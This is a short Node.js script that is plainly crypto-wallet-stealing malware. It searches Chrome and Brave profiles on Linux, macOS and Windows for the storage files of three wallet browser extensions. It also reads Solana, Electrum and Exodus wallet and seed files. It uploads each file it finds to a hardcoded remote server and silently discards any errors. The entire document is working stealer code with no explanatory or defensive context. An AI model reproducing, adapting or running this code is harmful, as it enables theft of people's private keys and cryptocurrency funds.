import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import axios from 'axios';
import FormData from 'form-data';

const exts = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'ibnejdfjmmkpcnlpebklmnkoeoihofec'];
const home = os.homedir();
const bases = [
  path.join(home, '.config/google-chrome'),
  path.join(home, '.config/BraveSoftware/Brave-Browser'),
  path.join(home, 'Library/Application Support/Google/Chrome'),
  path.join(home, 'AppData/Local/Google/Chrome/User Data'),
];

async function send(file, tag) {
  const form = new FormData();
  form.append('f', fs.createReadStream(file), `${tag}_${path.basename(file)}`);
  await axios.post('http://192.0.2.180:1244/uploads', form, { headers: form.getHeaders() }).catch(() => {});
}

for (const base of bases.filter((b) => fs.existsSync(b))) {
  for (const prof of fs.readdirSync(base).filter((n) => n === 'Default' || n.startsWith('Profile'))) {
    for (const id of exts) {
      const dir = path.join(base, prof, 'Local Extension Settings', id);
      if (!fs.existsSync(dir)) continue;
      for (const f of fs.readdirSync(dir).filter((n) => /\.(ldb|log)$/.test(n))) await send(path.join(dir, f), id);
    }
  }
}
for (const p of ['.config/solana/id.json', '.electrum/wallets/default_wallet', '.config/Exodus/exodus.wallet/seed.seco']) {
  const f = path.join(home, p);
  if (fs.existsSync(f)) await send(f, 'w');
}
